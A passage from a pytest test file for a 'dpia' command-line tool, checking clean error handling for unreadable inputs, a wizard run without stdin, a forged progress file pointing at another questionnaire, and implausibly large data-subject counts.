        (inputs / "locked").chmod(0o755)
    assert result.returncode == 2 and "Traceback" not in result.stderr
    assert f"{inputs / 'locked'}: cannot be read" in result.stderr, result.stderr
    assert not (tmp_path / "out" / "a.score.json").exists(), "no partial portfolio"


# -- wizard: no terminal, a forged progress file; absurd counts -----------------------------------------


def _close_stdin() -> None:
    os.close(0)
    _cap_memory()


def test_the_wizard_without_a_stdin_is_one_line_and_exit_2(tmp_path: Path) -> None:
    command = [sys.executable, "-m", "dpia", "wizard", "-o", str(tmp_path / "a.yaml")]
    for stdin, preexec in ((subprocess.DEVNULL, _cap_memory), (None, _close_stdin)):
        result = subprocess.run(
            command, stdin=stdin, preexec_fn=preexec, capture_output=True, text=True, timeout=60, cwd=tmp_path
        )
        assert result.returncode == 2, result.stderr
        assert "Traceback" not in result.stderr and len(result.stderr.strip().splitlines()) == 1, result.stderr
        assert not (tmp_path / "a.yaml").exists()


def test_a_forged_progress_file_cannot_point_the_wizard_at_another_file(tmp_path: Path) -> None:
    import json

    from wizard_helpers import run

    from dpia.errors import InputError
    from dpia.questionnaire import default_path
    from dpia.wizard import progress_path

    target = tmp_path / "answers.yaml"
    target.write_text(MINIMAL, encoding="utf-8")
    other = tmp_path / "other.yaml"  # a questionnaire that would load: only its path makes it unwelcome
    other.write_bytes(default_path().read_bytes())
    progress_path(target).write_text(json.dumps({"questionnaire": str(other), "answered": []}), encoding="utf-8")
    with pytest.raises(InputError) as refused:
        run(target, resume=True)
    assert "--questionnaire" in str(refused.value) and str(other) in str(refused.value)
    # Named on the command line, the same file is the user's own choice; the built-in one always resumes.
    assert run(target, resume=True, questionnaire_path=other)[0] == 0
    progress_path(target).write_text(
        json.dumps({"questionnaire": "/moved/away/" + default_path().name, "answered": []}), encoding="utf-8"
    )
    assert run(target, resume=True)[0] == 0


def test_a_count_of_persons_above_ten_billion_is_a_located_error(tmp_path: Path) -> None:
    from dpia.answers import load
    from dpia.errors import InputError

    answers = tmp_path / "a.yaml"
    answers.write_text(MINIMAL.replace("  count: 150000\n", "  count: 10000000001\n", 1), encoding="utf-8")
    with pytest.raises(InputError) as refused:
        load(answers)
    assert str(refused.value).startswith(f"{answers}:21:10: data_subjects.count: "), str(refused.value)
    answers.write_text(MINIMAL.replace("  count: 150000\n", "  count: 10000000000\n", 1), encoding="utf-8")
    load(answers)
